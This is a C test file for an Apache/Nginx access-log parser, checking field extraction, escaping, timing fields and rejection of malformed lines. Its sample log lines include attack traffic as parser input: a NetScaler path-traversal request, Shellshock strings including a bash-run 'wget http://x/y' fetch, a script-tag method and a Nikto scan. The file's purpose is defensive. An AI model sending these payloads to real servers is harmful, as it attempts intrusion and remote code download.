/*
 * test_parse_weblog.c - Apache/Nginx access logs: the combined frame, messy
 * request lines, escapes, NetScaler's trailing time, vhost_combined, what is
 * rejected and why, and no allocation per event.
 */
#include "tt.h"

#include "trawl/arena.h"
#include "trawl/parse.h"

#define NF 64

typedef struct wl {
    tr_parser *p;
    tr_arena *a;
    tr_field f[NF];
    tr_event ev;
} wl;

static bool wl_open(wl *w)
{
    memset(w, 0, sizeof(*w));
    if (tr_parser_new(TR_FMT_COMBINED, NULL, &w->p) != TR_OK)
        return false;
    w->a = tr_arena_new(0, 0);
    tr_event_init(&w->ev, w->f, NF, w->a);
    return w->a != NULL;
}

static void wl_close(wl *w)
{
    tr_parser_free(w->p);
    tr_arena_free(w->a);
}

static tr_err wl_parse(wl *w, const char *line)
{
    tr_arena_reset(w->a);
    tr_event_reset(&w->ev);
    return tr_parser_parse(w->p, tr_str_c(line), &w->ev);
}

static const tr_field *get(const wl *w, const char *name)
{
    return tr_event_find(&w->ev, tr_str_c(name));
}

/* The value of name, "<absent>" or "<null>". */
static const char *val(const wl *w, const char *name)
{
    static char buf[4][512];
    static int k;
    const tr_field *f = get(w, name);
    if (!f)
        return "<absent>";
    if (f->kind == TR_VNULL)
        return "<null>";
    char *b = buf[k++ & 3];
    snprintf(b, 512, "%.*s", (int)f->value.n, f->value.p);
    return b;
}

TEST(parse_weblog_netscaler_httpaccess)
{
    wl w;
    CHECK(wl_open(&w));
    CHECK_EQ(wl_parse(&w, "66.42.98.220 - - [01/Feb/2020:02:13:05 +0000] \"POST "
                          "/vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135 \"-\" "
                          "\"python-requests/2.22.0\" \"Time: 6809 microsecs\""),
             TR_OK);
    CHECK_STR(val(&w, "c-ip"), "66.42.98.220");
    CHECK_STR(val(&w, "cs-username"), "<null>");
    CHECK_STR(val(&w, "ident"), "<absent>");
    CHECK_STR(val(&w, "cs-method"), "POST");
    CHECK_STR(val(&w, "cs-uri"), "/vpn/../vpns/portal/scripts/newbm.pl");
    CHECK_STR(val(&w, "cs-uri-stem"), "/vpn/../vpns/portal/scripts/newbm.pl");
    CHECK_STR(val(&w, "cs-uri-query"), "/vpn/../vpns/portal/scripts/newbm.pl");
    CHECK_STR(val(&w, "cs-version"), "HTTP/1.1");
    CHECK_STR(val(&w, "sc-status"), "200");
    CHECK_EQ(get(&w, "sc-status")->kind, TR_VNUM);
    CHECK_STR(val(&w, "sc-bytes"), "135");
    CHECK_STR(val(&w, "cs-referer"), "<null>");
    CHECK_STR(val(&w, "cs-referrer"), "<null>");
    CHECK_STR(val(&w, "cs-user-agent"), "python-requests/2.22.0");
    CHECK_STR(val(&w, "c-useragent"), "python-requests/2.22.0");
    CHECK_STR(val(&w, "time-taken"), "6.809");
    CHECK_EQ(get(&w, "time-taken")->kind, TR_VNUM);
    CHECK_STR(val(&w, "date"), "2020-02-01");
    CHECK_STR(val(&w, "time"), "02:13:05");
    CHECK_EQ(w.ev.ts, INT64_C(1580523185) * 1000000000);
    CHECK_EQ(w.ev.logsource.ncategory, 1);
    CHECK_SLICE(w.ev.logsource.category[0], "webserver");
    CHECK_EQ(w.ev.logsource.product.n, 0);
    wl_close(&w);
}

/* time-taken is the microseconds as milliseconds without trailing zeros,
 * exactly as the printf formats spelled it. */
TEST(parse_weblog_time_taken_digits)
{
    wl w;
    CHECK(wl_open(&w));
    static const uint64_t us[] = { 0,    1,     9,     10,    99,     100,        101,
                                   999,  1000,  1001,  1010,  1100,   6809,       6800,
                                   6000, 12345, 99999, 100000, 100917, 4294967296, 999999999999999999 };
    for (size_t i = 0; i < TR_ARRAY_LEN(us) + 300; i++) {
        uint64_t v = i < TR_ARRAY_LEN(us) ? us[i] : (uint64_t)(i * 7919u) * (i % 3 ? 10 : 1);
        char line[256], want[48];
        snprintf(line, sizeof(line),
                 "1.2.3.4 - - [01/Feb/2020:02:13:05 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" "
                 "\"ua\" \"Time: %" PRIu64 " microsecs\"", v);
        uint64_t frac = v % 1000;
        if (frac == 0)
            snprintf(want, sizeof(want), "%" PRIu64, v / 1000);
        else if (frac % 100 == 0)
            snprintf(want, sizeof(want), "%" PRIu64 ".%01" PRIu64, v / 1000, frac / 100);
        else if (frac % 10 == 0)
            snprintf(want, sizeof(want), "%" PRIu64 ".%02" PRIu64, v / 1000, frac / 10);
        else
            snprintf(want, sizeof(want), "%" PRIu64 ".%03" PRIu64, v / 1000, frac);
        CHECK_EQ(wl_parse(&w, line), TR_OK);
        CHECK_STR(val(&w, "time-taken"), want);
    }
    wl_close(&w);
}

TEST(parse_weblog_common_and_query_split)
{
    wl w;
    CHECK(wl_open(&w));
    CHECK_EQ(wl_parse(&w, "2001:db8::1 - frank [10/Oct/2000:13:55:36 -0700] \"GET "
                          "/apache_pb.gif?a=1&b=%2e%2e/ HTTP/1.0\" 200 2326"),
             TR_OK);
    CHECK_STR(val(&w, "c-ip"), "2001:db8::1");
    CHECK_STR(val(&w, "cs-username"), "frank");
    CHECK_STR(val(&w, "cs-uri-stem"), "/apache_pb.gif");
    CHECK_STR(val(&w, "cs-uri-query"), "/apache_pb.gif?a=1&b=%2e%2e/");
    CHECK_STR(val(&w, "cs-referer"), "<absent>");
    CHECK_STR(val(&w, "date"), "2000-10-10");
    CHECK_STR(val(&w, "time"), "20:55:36"); /* UTC */
    wl_close(&w);
}

TEST(parse_weblog_dash_bytes_is_zero)
{
    wl w;
    CHECK(wl_open(&w));
    CHECK_EQ(wl_parse(&w, "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET /x HTTP/1.1\" 304 - "
                          "\"-\" \"-\""),
             TR_OK);
    CHECK_STR(val(&w, "sc-bytes"), "0");
    CHECK_EQ(get(&w, "sc-bytes")->kind, TR_VNUM);
    CHECK_STR(val(&w, "cs-user-agent"), "<null>");
    wl_close(&w);
}

TEST(parse_weblog_garbage_requests_still_parse)
{
    wl w;
    CHECK(wl_open(&w));
    /* TLS handshake sent to a plain HTTP port, as nginx logs it */
    CHECK_EQ(wl_parse(&w, "203.0.113.9 - - [12/Mar/2020:07:01:44 +0000] "
                          "\"\\x16\\x03\\x01\\x00\\xa5\" 400 157 \"-\" \"-\""),
             TR_OK);
    const tr_field *r = get(&w, "request");
    CHECK(r && r->value.n == 5 && r->value.p[0] == 0x16 && (unsigned char)r->value.p[4] == 0xa5);
    CHECK_STR(val(&w, "cs-method"), "<absent>");
    CHECK_STR(val(&w, "sc-status"), "400");
    /* no request at all */
    CHECK_EQ(wl_parse(&w, "203.0.113.9 - - [12/Mar/2020:07:01:45 +0000] \"-\" 408 0 \"-\" \"-\""),
             TR_OK);
    CHECK_STR(val(&w, "request"), "<null>");
    CHECK_STR(val(&w, "cs-uri"), "<absent>");
    /* spaces inside the target: the version is what follows the last space */
    CHECK_EQ(wl_parse(&w, "192.0.2.44 - - [12/Mar/2020:07:02:01 +0000] \"GET /cgi-bin/a b.sh?x=() "
                          "{ :; }; echo HTTP/1.1\" 404 209 \"-\" \"-\""),
             TR_OK);
    CHECK_STR(val(&w, "cs-uri"), "/cgi-bin/a b.sh?x=() { :; }; echo");
    CHECK_STR(val(&w, "cs-uri-stem"), "/cgi-bin/a b.sh");
    CHECK_STR(val(&w, "cs-version"), "HTTP/1.1");
    /* HTTP/0.9 style: no version */
    CHECK_EQ(wl_parse(&w, "192.0.2.44 - - [12/Mar/2020:07:02:01 +0000] \"GET /\" 200 9"), TR_OK);
    CHECK_STR(val(&w, "cs-uri"), "/");
    CHECK_STR(val(&w, "cs-version"), "<absent>");
    /* unescaped quote inside the request (a server that does not escape) */
    CHECK_EQ(wl_parse(&w, "192.0.2.8 - - [12/Mar/2020:07:05:00 +0000] \"GET /a\"b HTTP/1.1\" 200 3 "
                          "\"-\" \"x\""),
             TR_OK);
    CHECK_STR(val(&w, "cs-uri"), "/a\"b");
    CHECK_STR(val(&w, "cs-user-agent"), "x");
    /* a method that is not a token is not split */
    CHECK_EQ(wl_parse(&w, "192.0.2.8 - - [12/Mar/2020:07:05:00 +0000] \"<script> /x HTTP/1.1\" "
                          "400 3"),
             TR_OK);
    CHECK_STR(val(&w, "request"), "<script> /x HTTP/1.1");
    CHECK_STR(val(&w, "cs-method"), "<absent>");
    wl_close(&w);
}

TEST(parse_weblog_escaped_quotes_in_user_agent)
{
    wl w;
    CHECK(wl_open(&w));
    CHECK_EQ(wl_parse(&w, "192.0.2.44 - - [12/Mar/2020:07:02:01 +0000] \"GET /x HTTP/1.1\" 200 1 "
                          "\"-\" \"() { :;}; /bin/bash -c \\\"wget http://x/y\\\"\""),
             TR_OK);
    CHECK_STR(val(&w, "cs-user-agent"), "() { :;}; /bin/bash -c \"wget http://x/y\"");
    /* backslashes in the target: Apache writes \\ for one */
    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] "
                          "\"GET /cewolf/?img=\\\\logger.zip "
                          "HTTP/1.1\" 200 1024"),
             TR_OK);
    CHECK_STR(val(&w, "cs-uri"), "/cewolf/?img=\\logger.zip");
    /* a backslash that is not an escape stays */
    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] "
                          "\"GET /a\\..\\b HTTP/1.1\" 200 1"),
             TR_OK);
    CHECK_STR(val(&w, "cs-uri"), "/a\\..\\b");
    /* an empty user agent is an empty string, not null */
    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] "
                          "\"GET / HTTP/1.1\" 200 1 \"-\" "
                          "\"\""),
             TR_OK);
    CHECK_STR(val(&w, "cs-user-agent"), "");
    wl_close(&w);
}

TEST(parse_weblog_vhost_and_extras)
{
    wl w;
    CHECK(wl_open(&w));
    CHECK_EQ(wl_parse(&w, "www.example.com:443 192.0.2.7 - - [12/Mar/2020:07:04:00 +0000] \"GET "
                          "/ HTTP/2.0\" 200 512 \"-\" \"Mozilla/5.0\" \"198.51.100.1, 10.0.0.1\" "
                          "0.002"),
             TR_OK);
    CHECK_STR(val(&w, "cs-host"), "www.example.com");
    CHECK_STR(val(&w, "s-port"), "443");
    CHECK_STR(val(&w, "c-ip"), "192.0.2.7");
    CHECK_STR(val(&w, "x-forwarded-for"), "198.51.100.1, 10.0.0.1");
    CHECK_STR(val(&w, "x-extra-1"), "0.002");
    /* nginx "main" without a forwarded-for header; then a field that is no address list */
    CHECK_EQ(wl_parse(&w, "192.0.2.7 - - [12/Mar/2020:07:04:00 +0000] \"GET / HTTP/1.1\" 200 1 "
                          "\"-\" \"ua\" \"-\""),
             TR_OK);
    CHECK_STR(val(&w, "x-forwarded-for"), "<null>");
    CHECK_EQ(wl_parse(&w, "192.0.2.7 - - [12/Mar/2020:07:04:00 +0000] \"GET / HTTP/1.1\" 200 1 "
                          "\"-\" \"ua\" \"session=abc\""),
             TR_OK);
    CHECK_STR(val(&w, "x-forwarded-for"), "<absent>");
    CHECK_STR(val(&w, "x-extra-1"), "session=abc");
    wl_close(&w);
}

TEST(parse_weblog_crlf_bom_and_long_uri)
{
    wl w;
    CHECK(wl_open(&w));
    CHECK_EQ(wl_parse(&w, "\xEF\xBB\xBF" "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET /x "
                                         "HTTP/1.1\" 200 5 \"-\" \"ua\"\r"),
             TR_OK);
    CHECK_STR(val(&w, "c-ip"), "1.2.3.4");
    CHECK_STR(val(&w, "cs-user-agent"), "ua");
    size_t n = 20000;
    char *line = malloc(n + 200);
    CHECK(line);
    int k = snprintf(line, 200, "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET /");
    memset(line + k, 'A', n);
    snprintf(line + k + n, 200, " HTTP/1.1\" 414 0 \"-\" \"Nikto\"");
    tr_err err = wl_parse(&w, line);
    free(line);
    CHECK_EQ(err, TR_OK);
    CHECK_EQ(get(&w, "cs-uri")->value.n, n + 1);
    CHECK_STR(val(&w, "cs-user-agent"), "Nikto");
    wl_close(&w);
}

TEST(parse_weblog_rejects_non_access_lines)
{
    wl w;
    CHECK(wl_open(&w));
    static const char *const bad[] = {
        "this is not an access log line",
        "",
        "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000 \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [32/Jan/2020:18:09:39 +0000] \"GET / HTTP/1.1\" 200 1",
        "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] GET / HTTP/1.1 200 1",
        "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET / HTTP/1.1 200 1",
        "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET / HTTP/1.1\" OK 1",
        "1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET / HTTP/1.1\" 200 lots",
        "Jan 20 10:00:00 host sshd[1]: Accepted password for root",
    };
    for (size_t i = 0; i < TR_ARRAY_LEN(bad); i++) {
        tr_err err = wl_parse(&w, bad[i]);
        CHECK_MSG(err == TR_EPARSE, "line %zu accepted: %s", i, bad[i]);
        CHECK_MSG(tr_parser_errmsg(w.p)[0] != '\0', "line %zu has no reason", i);
    }
    CHECK(strstr(tr_parser_errmsg(w.p), "host ident user"));
    wl_close(&w);
}

TEST(parse_weblog_no_allocation_per_event)
{
    wl w;
    CHECK(wl_open(&w));
    const char *line = "66.42.98.220 - - [01/Feb/2020:02:13:05 +0000] \"POST /a\\\"b?x=1 "
                       "HTTP/1.1\" 200 135 \"-\" \"ua \\\"q\\\"\" \"Time: 6809 microsecs\"";
    CHECK_EQ(wl_parse(&w, line), TR_OK);
    uint64_t before = tr_alloc_count();
    for (int i = 0; i < 1000; i++)
        CHECK_EQ(wl_parse(&w, line), TR_OK);
    CHECK_EQ(tr_alloc_count(), before);
    wl_close(&w);
}

TEST(parse_weblog_full_event_array_is_counted)
{
    tr_parser *p;
    CHECK_EQ(tr_parser_new(TR_FMT_COMBINED, NULL, &p), TR_OK);
    tr_arena *a = tr_arena_new(0, 0);
    tr_field f[3];
    tr_event ev;
    tr_event_init(&ev, f, 3, a);
    CHECK_EQ(tr_parser_parse(p, TR_STR("1.2.3.4 - - [11/Jan/2020:18:09:39 +0000] \"GET / "
                                       "HTTP/1.1\" 200 5 \"-\" \"ua\""),
                             &ev),
             TR_OK);
    CHECK_EQ(ev.nfields, 3);
    CHECK(ev.truncated > 0);
    tr_parser_free(p);
    tr_arena_free(a);
}
